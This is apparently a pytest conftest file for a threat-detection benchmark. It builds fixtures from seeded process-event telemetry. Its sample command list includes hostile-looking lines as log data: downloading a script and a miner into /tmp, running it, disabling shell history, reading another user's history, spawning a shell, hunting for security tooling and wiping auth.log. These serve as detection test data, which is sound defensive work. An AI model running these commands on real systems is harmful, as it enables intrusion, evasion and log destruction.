"""Shared fixtures: a small seeded process table for engine tests, and the benchmark's
own telemetry, engine and task catalogue."""

from __future__ import annotations

import datetime as dt
import os
import random
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from pytest_ctirealm.dataset import Benchmark, load_benchmark
from pytest_ctirealm.engines import EmbeddedEngine
from pytest_ctirealm.scoring.trace import RowTracer
from pytest_ctirealm.telemetry.simulator import Telemetry, generate


def pytest_configure(config: pytest.Config) -> None:
    """Hypothesis profiles: CI gets more examples and no per-example deadline (a shared
    2-core machine is slow at times); locally the default keeps the suite quick.

    pytest loads this file for every run in the project (`tests` is the test path), also
    a benchmark run from a plain install, which has no Hypothesis: then there is nothing
    to configure."""
    if not config.pluginmanager.hasplugin("hypothesispytest"):
        return
    from hypothesis import HealthCheck, settings

    settings.register_profile(
        "ci", max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow]
    )
    settings.register_profile("dev", max_examples=60, deadline=None)
    settings.load_profile("ci" if os.environ.get("CI") else "dev")


#: The instant `now()` is pinned to in the semantic tests.
NOW = dt.datetime(2026, 3, 10, 12, 0, tzinfo=dt.UTC)

_COMMANDS = [
    ("curl", "curl -sSL http://203.0.113.7/x.sh -o /tmp/x.sh"),
    ("curl", "curl -fsS https://packages.example.com/health"),
    ("wget", "wget -q http://198.51.100.2/miner -O /tmp/.m"),
    ("wget", "wget https://mirror.example.org/pkg.tar.gz"),
    ("bash", "bash /tmp/x.sh"),
    ("bash", "bash -c 'echo HISTSIZE=0 >> ~/.bashrc'"),
    ("cat", "cat /proc/version"),
    ("cat", "cat /home/alice/.bash_history"),
    ("crontab", "crontab -l"),
    ("crontab", "crontab /tmp/job"),
    ("apt-get", "apt-get update"),
    ("find", "find / -name '*falcon*'"),
    ("python3", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'"),
    ("w", "w -h"),
    ("dd", "dd if=/dev/zero of=/var/log/auth.log"),
]
_DEVICES = ["web-01", "web-02", "db-01", "build-07"]
_ACCOUNTS = ["root", "alice", "svc-deploy", "www-data"]
_PARENTS = ["bash", "sshd", "cron", "python3", "apt"]


def make_process_rows(count: int = 240, seed: int = 7) -> list[dict[str, Any]]:
    """Seeded rows of DeviceProcessEvents, with varied devices, commands and times."""
    rng = random.Random(seed)
    start = NOW - dt.timedelta(days=3)
    rows = []
    for index in range(count):
        name, command = rng.choice(_COMMANDS)
        timestamp = start + dt.timedelta(seconds=rng.randrange(3 * 24 * 3600))
        account = rng.choice(_ACCOUNTS)
        rows.append(
            {
                "Timestamp": timestamp,
                "TimeGenerated": timestamp,
                "DeviceName": rng.choice(_DEVICES),
                "DeviceId": f"dev-{rng.randrange(4)}",
                "FileName": name,
                "FolderPath": f"/usr/bin/{name}",
                "ProcessCommandLine": command,
                "AccountName": account,
                "InitiatingProcessFileName": rng.choice(_PARENTS),
                "ProcessId": rng.randrange(100, 60000),
                "ReportId": index,
                "AdditionalFields": {
                    "ProcessPosixEffectiveUser": {"Name": account, "PosixUserId": index % 3},
                    "tags": ["lab", name],
                },
                "InitiatingProcessAccountObjectId": str(uuid.UUID(int=rng.getrandbits(128))),
            }
        )
    return rows


@pytest.fixture(scope="session")
def process_rows() -> list[dict[str, Any]]:
    return make_process_rows()


@pytest.fixture(scope="session")
def engine(process_rows: list[dict[str, Any]]) -> Iterator[EmbeddedEngine]:
    """One engine with DeviceProcessEvents loaded, `now()` pinned to NOW."""
    with EmbeddedEngine.with_tables({"DeviceProcessEvents": process_rows}, now=NOW) as e:
        yield e


@pytest.fixture(scope="session")
def telemetry() -> Telemetry:
    """The benchmark telemetry for seed 0 at scale 1."""
    return generate(seed=0, scale=1.0)


@pytest.fixture(scope="session")
def tracer(telemetry: Telemetry) -> RowTracer:
    """Traces result rows to the events of the session's telemetry."""
    return RowTracer(telemetry.tables)


@pytest.fixture(scope="session")
def telemetry_engine(telemetry: Telemetry) -> Iterator[EmbeddedEngine]:
    with EmbeddedEngine.with_tables(telemetry.tables, now=telemetry.end) as e:
        yield e


@pytest.fixture(scope="session")
def benchmark() -> Benchmark:
    return load_benchmark()


@dataclass(frozen=True)
class World:
    """One seed's telemetry, an engine over it and its tracer: what a detection is run
    and scored against."""

    telemetry: Telemetry
    engine: EmbeddedEngine
    tracer: RowTracer


@pytest.fixture(scope="session")
def world(
    telemetry: Telemetry, telemetry_engine: EmbeddedEngine, tracer: RowTracer
) -> Iterator[Callable[[int], World]]:
    """`world(seed)`: the world of *seed* at scale 1, built once per session (seed 0 is
    the session's `telemetry`)."""
    worlds = {0: World(telemetry, telemetry_engine, tracer)}
    opened: list[EmbeddedEngine] = []

    def get(seed: int) -> World:
        if seed not in worlds:
            other = generate(seed=seed, scale=1.0)
            engine = EmbeddedEngine.with_tables(other.tables, now=other.end)
            opened.append(engine)
            worlds[seed] = World(other, engine, RowTracer(other.tables))
        return worlds[seed]

    yield get
    for engine in opened:
        engine.close()
